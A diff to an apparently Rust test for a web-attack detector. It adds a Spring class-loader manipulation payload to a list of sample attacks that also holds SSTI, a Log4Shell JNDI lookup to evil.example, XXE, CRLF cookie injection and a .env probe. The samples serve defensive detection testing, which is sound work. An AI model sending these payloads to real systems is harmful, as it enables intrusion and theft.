@@ -59,6 +59,12 @@ async fn every_family_is_detected_and_monitor_mode_forwards() {
         ),
         ("ssti", c.get(k.url("/?greeting=%7B%7B7*7%7D%7D"))),
         ("jndi", c.get(k.url("/")).header("x-api-version", "${jndi:ldap://evil.example/a}")),
+        (
+            "java",
+            c.post(k.url("/login"))
+                .header("content-type", "application/x-www-form-urlencoded")
+                .body("class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
+        ),
         ("xxe", c.post(k.url("/upload")).header("content-type", "application/xml").body(xml)),
         ("crlf", c.get(k.url("/?next=%0d%0aSet-Cookie:%20admin=1"))),
         ("probe", c.get(k.url("/.env"))),
